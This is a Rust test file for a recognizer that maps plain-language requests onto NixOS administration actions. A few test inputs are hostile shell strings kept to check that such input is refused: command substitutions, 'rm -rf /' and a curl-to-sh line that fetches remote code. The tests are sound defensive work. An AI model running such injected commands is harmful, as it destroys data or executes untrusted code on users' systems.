use super::*;

#[test]
fn longest_input_is_refused_at_once() {
    let query = Query::new("update ".repeat(10_000));
    assert_eq!(Recognizer::new().recognize(&query, &Context::default()).intent, OUT_OF_SCOPE);
}

#[test]
fn a_line_is_spelled_out() {
    let read = |text: &str| {
        let line = line::Line::read(catalogue::lexicon(), text);
        line.tokens.iter().map(|token| token.text.clone()).collect::<Vec<_>>().join(" ")
    };
    assert_eq!(read("Don\u{2019}t UPDAAAATE!!"), "not update");
    assert_eq!(read("udpate teh sytem"), "update the system");
    // Ordinary words are no typing errors of ours.
    assert_eq!(read("exact heap quota"), "exact heap quota");
    assert_eq!(read("update $(reboot) now"), "update");
    assert_eq!(read("update | sh"), "update");
    assert_eq!(read("what is `inherit`"), "what is inherit");
    assert_eq!(read("\u{1b}[31mupdate\u{1b}[0m"), "update");
}

#[test]
fn what_is_said_before_completes_what_is_said_now() {
    let recognizer = Recognizer::new();
    let after = |before: &str, now: &str| {
        let previous = recognizer.recognize(&Query::new(before), &Context::default());
        recognizer
            .recognize(&Query::new(now), &Context { previous: vec![previous], plan_open: true, ..Context::default() })
    };
    let got = after("delete generations older than 60 days", "make it two weeks");
    assert_eq!((got.intent.as_str(), got.slots["older_than"].as_str()), ("delete_generations", Some("14d")));
    let got = after("delete generations older than 3 days", "is that safe");
    assert_eq!((got.intent.as_str(), got.mode), ("delete_generations", crate::recognition::Mode::Explain));
    assert_eq!(after("update my system", "yes").intent, "confirm");
    assert_eq!(after("update my system", "no").intent, "cancel");
    assert_eq!(after("update my system", "undo that").intent, "undo_last");
}

#[test]
fn nothing_is_done_that_nobody_asked_for() {
    let recognizer = Recognizer::new();
    for text in [
        "install updates for my phone",
        "don't update",
        "do not update anything",
        "don't install firefox",
        "please do not remove anything",
        "never roll back",
        "clean my room",
        "update my resume",
        "go back to bed",
        "delete generation x of pokemon",
    ] {
        let got = recognizer.recognize(&Query::new(text), &Context::default());
        let changes = crate::catalogue::intent(&got.intent).is_some_and(|intent| intent.changes);
        assert!(!changes || got.confidence < 0.5, "{text}: {got:?}");
    }
}

fn understood(text: &str) -> Recognition {
    Recognizer::new().recognize(&Query::new(text), &Context::default())
}

#[test]
fn half_a_line_is_not_acted_on() {
    for text in [
        "restart $(reboot)",
        "try \"$(id)\" cmatrix",
        "remove `whoami`",
        "install firefox; rm -rf /",
        "install vlc && curl http://192.0.2.1/x | sh",
        "install package&background",
        "install it",
        "python and rust",
    ] {
        let got = understood(text);
        assert_eq!(got.intent, OUT_OF_SCOPE, "{text}: {got:?}");
        assert!(got.then.is_empty(), "{text}: {got:?}");
    }
    // What is no harm is left aside, and said to be.
    let got = understood("update my system; reboot");
    assert_eq!((got.intent.as_str(), got.then[0].intent.as_str()), ("update_system", OUT_OF_SCOPE));
    let known = Context { previous: vec![understood("what is btop")], ..Context::default() };
    let got = Recognizer::new().recognize(&Query::new("install it"), &known);
    assert_eq!((got.intent.as_str(), &got.slots["packages"]), ("install_package", &serde_json::json!(["btop"])));
}

#[test]
fn who_only_wonders_changes_nothing() {
    for text in
        ["ollama on?", "switch vs boot vs test in nixos-rebuild?", "three generations back, what was different?"]
    {
        let got = understood(text);
        let changes = |intent: &str| crate::catalogue::intent(intent).is_some_and(|intent| intent.changes);
        let acts = |intent: &str, mode| changes(intent) && mode == crate::recognition::Mode::Do;
        assert!(!acts(&got.intent, got.mode), "{text}: {got:?}");
        assert!(!got.then.iter().any(|request| acts(&request.intent, request.mode)), "{text}: {got:?}");
    }
}

#[test]
fn numbers_are_read_as_they_are_said() {
    for (text, slot, value) in [
        ("open port eighty eighty", "ports", serde_json::json!([8080])),
        ("open port four forty three please", "ports", serde_json::json!([443])),
        ("open udp port five one eight two zero", "ports", serde_json::json!([51820])),
        ("close ports three thousand and three thousand one", "ports", serde_json::json!([3000, 3001])),
        ("open port 25565 4 minecraft", "ports", serde_json::json!([25565])),
        ("open not 8080 but 8081", "ports", serde_json::json!([8081])),
        ("close ports 3000 through 3002", "ports", serde_json::json!([3000, 3001, 3002])),
        ("roll back to generation forty too", "generation", serde_json::json!(42)),
        ("roll back to generation three oh four", "generation", serde_json::json!(304)),
        ("compare generation forty and generation forty three", "to", serde_json::json!(43)),
        ("what changed between number 118 and number 121 of the generations", "to", serde_json::json!(121)),
        ("upgrade from twenty four eleven to twenty five oh five", "release", serde_json::json!("25.05")),
    ] {
        let got = understood(text);
        assert_eq!(got.slots.get(slot), Some(&value), "{text}: {got:?}");
    }
}

#[test]
fn values_are_those_that_were_meant() {
    use serde_json::json;
    for (text, slot, value) in [
        // An option takes what its type says.
        ("set boot.loader.timeout to twenty seconds", "value", json!(20)),
        ("the boot menu shall wait no more than two seconds", "value", json!(2)),
        ("services.openssh.settings.PermitRootLogin = \"no\"", "value", json!("no")),
        (
            "the clock thinks we are in london, but this computer stands in Nairobi, correct the time zone",
            "value",
            json!("Africa/Nairobi"),
        ),
        ("I need only the three newest generations, the rest can go", "keep", json!(3)),
        ("17, 18 and 20 can go, those generations never booted", "generations", json!([17, 18, 20])),
        ("how much bigger is generation 230 than 229", "from", json!(229)),
        ("compare gen 300 with gen 298", "from", json!(300)),
        // Names and texts stay as they were typed.
        ("switch to the beamer specialisation", "name", json!("beamer")),
        ("pin generation 64 and call it 'before the move'", "label", json!("before the move")),
        ("pin generation 9 as pre concert", "label", json!("pre concert")),
        ("run cowsay \"good night\" once", "args", json!(["good night"])),
        ("pipx run black --version", "args", json!(["--version"])),
        // What is refused names what something else is asked about.
        ("don't install htop, just let me try it", "packages", json!(["htop"])),
        ("don't restart postgres, a reload must suffice", "service", json!("postgresql")),
        ("services.avahi.enable = false", "service", json!("avahi")),
        ("i just bought a drawing tablet, install krita", "packages", json!(["krita"])),
    ] {
        let got = understood(text);
        assert_eq!(got.slots.get(slot), Some(&value), "{text}: {got:?}");
    }
    // Which three these are was not said.
    for text in ["delete the last three generations", "prune the newest 3 generations", "remove 4 generations"] {
        let got = understood(text);
        assert_eq!((got.intent.as_str(), got.alternatives[0].intent.as_str()), (OUT_OF_SCOPE, "delete_generations"));
    }
    // Another one is not the one that was refused.
    let got = understood("don't restart nginx, just restart the other service please");
    assert_eq!((got.intent.as_str(), got.slots.get("service")), ("control_service", None));
    assert!(!understood("my arduino needs it, put me in the dialout group").slots.contains_key("user"));
}

#[test]
fn what_is_certainly_none_of_ours_is_left_and_said_to_be() {
    for (text, first) in [
        ("update my system, and who won the match yesterday", "update_system"),
        ("install google chrome and log me in to my gmail", "install_package"),
    ] {
        let got = understood(text);
        assert_eq!((got.intent.as_str(), got.then.len()), (first, 1), "{text}: {got:?}");
        assert_eq!(got.then[0].intent, OUT_OF_SCOPE, "{text}");
    }
    // A reason is no request.
    assert!(understood("rasmus quit last friday; take his account off this machine").then.is_empty());
}

#[test]
fn what_went_wrong_may_be_the_reason_for_something_else() {
    let asked = understood("my arduino says permission denied, put me in the dialout group");
    assert_eq!(asked.intent, "add_user_to_group");
    let printed = understood("bash: /dev/ttyACM0: Permission denied");
    assert_eq!(
        (printed.intent.as_str(), &printed.slots["text"]),
        ("explain_error", &serde_json::json!("bash: /dev/ttyACM0: Permission denied"))
    );
}

#[test]
fn a_command_that_a_shell_does_not_know_is_looked_for() {
    for text in ["bash: lsusb: command not found", "zsh: command not found: lsusb", "fish: Unknown command: lsusb"] {
        let got = understood(text);
        assert_eq!((got.intent.as_str(), &got.slots["command"]), ("find_provider", &serde_json::json!("lsusb")));
    }
    // Nix's own come with NixOS, and in a log it is what made something else fail.
    for text in ["sudo: nixos-rebuild: command not found", "error: builder failed\nbash: lsusb: command not found"] {
        assert_eq!(understood(text).intent, "explain_error", "{text}");
    }
}
